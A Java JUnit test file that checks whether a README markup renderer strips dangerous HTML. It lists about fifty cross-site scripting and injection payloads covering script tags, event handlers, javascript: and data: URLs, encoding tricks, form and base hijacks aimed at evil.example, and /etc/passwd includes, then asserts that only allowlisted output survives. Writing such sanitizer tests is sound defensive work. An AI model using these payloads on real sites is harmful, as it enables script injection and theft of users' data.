package starforge.markup;

import static org.assertj.core.api.Assertions.assertThat;

import java.util.Map;
import java.util.Set;
import org.junit.jupiter.params.ParameterizedTest;
import org.junit.jupiter.params.provider.ValueSource;
import org.w3c.dom.Element;
import org.w3c.dom.Node;

/** Whatever a text contains, only harmless elements, attributes and addresses come out. */
final class AttackTest {
    private static final Links LINKS = new Links("/m/l/blob/main/f/", "/m/l/raw/main/f/", "docs");

    private static final Set<String> HARMLESS = Set.of(
            "a abbr b blockquote br caption center cite code dd del details dfn div dl dt em h1 h2 h3 h4 h5 h6 hr i img input ins"
                    .concat(
                            " kbd li mark ol p pre q s samp section small span strike strong sub summary sup table tbody td")
                    .concat(" tfoot th thead tr tt u ul var")
                    .split(" "));

    /** What the value of each attribute may be. */
    private static final Map<String, String> ATTRIBUTES = Map.ofEntries(
            Map.entry("href", "(https?://|mailto:|#user-content-|/m/l/blob/main/f/)[\\x21-\\x7e]*"),
            Map.entry("src", "/m/l/raw/main/f/[\\x21-\\x7e]*"),
            Map.entry("rel", "nofollow noopener ugc"),
            Map.entry("id", "user-content-.+"),
            Map.entry("class", "language-[A-Za-z0-9_+#.-]+|sf-center|sf-right|sf-plain"),
            Map.entry("type", "checkbox"),
            Map.entry("tabindex", "0"),
            Map.entry("loading", "lazy"),
            Map.entry("width|height", "[0-9]{1,4}%?"),
            Map.entry("colspan|rowspan", "[0-9]{1,2}"),
            Map.entry("start", "-?[0-9]{1,9}"),
            Map.entry("alt|title|open|checked|disabled|aria-label", "(?s).*"));

    @ParameterizedTest
    @ValueSource(
            strings = {
                "<script>alert(1)</script>",
                "<SCRIPT SRC=//evil.example/x.js></SCRIPT>",
                "<scr<script>ipt>alert(1)</scr</script>ipt>",
                "<img src=x onerror=alert(1)>",
                "<img/src=x/onerror=alert(1)>",
                "<img src=\"x` `<script>alert(1)</script>\"` `>",
                "<svg onload=alert(1)>",
                "<svg><script>alert(1)</script></svg>",
                "<svg><style><img src=x onerror=alert(1)></style></svg>",
                "<math><mtext><table><mglyph><style><img src=x onerror=alert(1)></style></mglyph></table></mtext></math>",
                "<math href=\"javascript:alert(1)\">x</math>",
                "<style>*{background:url(//evil.example)}</style>",
                "<p style=\"position:fixed;inset:0\">x</p>",
                "<form action=//evil.example><input name=password><button formaction=javascript:alert(1)>x</button></form>",
                "<base href=//evil.example/>",
                "<meta http-equiv=refresh content=\"0;url=//evil.example\">",
                "<link rel=stylesheet href=//evil.example/x.css>",
                "<iframe src=javascript:alert(1)></iframe><frame src=x><object data=x></object><embed src=x>",
                "<a href=\"javascript:alert(1)\">x</a>",
                "<a href=\" &#14; javascript:alert(1)\">x</a>",
                "<a href=\"java\tscript:alert(1)\">x</a>",
                "<a href=\"java&NewLine;script&colon;alert(1)\">x</a>",
                "<a href=\"jav&#x61;script&#58;alert(1)\">x</a>",
                "<a href=\"\u0001javascript:alert(1)\">x</a>",
                "<a href=\"vbscript:msgbox(1)\">x</a>",
                "<a href=\"data:text/html;base64,PHNjcmlwdD4=\">x</a>",
                "<a href=\"blob:https://x/1\">x</a> <a href=\"file:///etc/passwd\">y</a>",
                "[x](javascript:alert(1)) [y](JAVASCRIPT&#58;alert(1)) [z](<java script:alert(1)>)",
                "[x](data:text/html,<script>alert(1)</script>)",
                "[x]: javascript:alert(1)\n\n[x] [x][]",
                "<javascript:alert(1)> <data:text/html,x> <vbscript:x>",
                "![x](javascript:alert(1)) ![y](data:image/svg+xml,<svg onload=alert(1)>) ![z](//evil.example/t.gif)",
                "<http://a.example/?\"onmouseover=alert(1)//>",
                "[x](http://a.example \"\\\" onmouseover=alert(1) \\\"\")",
                "<div id=main class=\"sf-top sf-btn\" hidden>x</div><a name=csrf_token></a><img name=cookie id=forms>",
                "<div data-live-region=x data-copy=x contenteditable accesskey=x tabindex=9 autofocus onfocus=alert(1)>x</div>",
                "```x\" onclick=\"alert(1)\n</code></pre><script>alert(1)</script>\n```",
                "<!--><script>alert(1)</script>--> <![CDATA[><script>alert(1)</script>]]> <?x><script>alert(1)</script>?>",
                "<noscript><p title=\"</noscript><img src=x onerror=alert(1)>\"></noscript>",
                "<textarea><img src=x onerror=alert(1)></textarea><title><img src=x onerror=alert(1)></title><xmp><b>x</xmp>",
                "<template><script>alert(1)</script></template><portal src=x></portal><video src=x onerror=alert(1)></video>",
                "<table background=javascript:alert(1)><td background=x onclick=x>x</table>",
                "<details open ontoggle=alert(1)><summary>x</summary></details><marquee onstart=alert(1)>x</marquee>",
                "<a href=x target=_blank rel=opener ping=//evil.example download>x</a>",
                "<img srcset=\"//evil.example/x 1x\" src=a.png usemap=#x longdesc=javascript:x>",
                "<input type=image src=x onerror=alert(1)><input type=checkbox onclick=alert(1) name=x form=y>",
                "| a |\n|---|\n| <script>alert(1)</script> [x](javascript:alert(1)) |",
                "# <img src=x onerror=alert(1)> \" id=x\n\n[^<script>]: <script>alert(1)</script>\n\n[^<script>]",
                "\u0000<script\u0000>alert(1)</script> <a href=\"java\u0000script:alert(1)\">x</a> \uFFFE \uD800",
                ".. raw:: html\n\n   <script>alert(1)</script>\n\n.. include:: /etc/passwd",
                "`x <javascript:alert(1)>`_ y_ z__\n\n.. _y: javascript:alert(1)\n\n__ data:text/html,x",
                ".. image:: javascript:alert(1)\n   :target: javascript:alert(1)\n   :alt: \" onerror=alert(1) x=\"",
                ".. |x| image:: x.png\n   :width: 1\" onload=\"alert(1)\n   :target: data:text/html,x\n\n|x|",
                ".. code:: x\" onclick=\"alert(1)\n\n   </code></pre><script>alert(1)</script>",
                ".. _main\" onclick=\"alert(1): \n\n<b>\n===\n\n_`x\" y=\"`",
                "+ADw-script+AD4-alert(1)+ADw-/script+AD4- ${7*7} <#assign x=1> {{7*7}}",
            })
    void nothing_dangerous_comes_out_of(String text) {
        for (String fileName : new String[] {"README.md", "README.txt", "README.rst"}) {
            Fragment page = Fragment.of(new Markup().render(fileName, text, LINKS));
            for (Element element : page.elements()) {
                assertThat(element.getTagName()).isIn(HARMLESS);
                Fragment.attributes(element).forEach(AttackTest::check);
            }
        }
    }

    private static void check(Node attribute) {
        String allowed = ATTRIBUTES.entrySet().stream()
                .filter(entry -> attribute.getNodeName().matches(entry.getKey()))
                .map(Map.Entry::getValue)
                .findFirst()
                .orElseThrow(() -> new AssertionError("the attribute " + attribute));
        assertThat(attribute.getNodeValue()).as(attribute.getNodeName()).matches(allowed);
    }
}
